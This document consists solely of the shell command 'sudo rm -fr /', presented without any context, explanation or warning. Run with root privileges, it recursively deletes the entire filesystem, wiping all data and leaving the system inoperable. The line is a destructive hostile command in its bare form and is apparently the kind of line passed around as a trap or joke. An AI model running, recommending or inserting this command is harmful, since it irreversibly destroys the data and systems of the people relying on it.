sudo rm -fr /
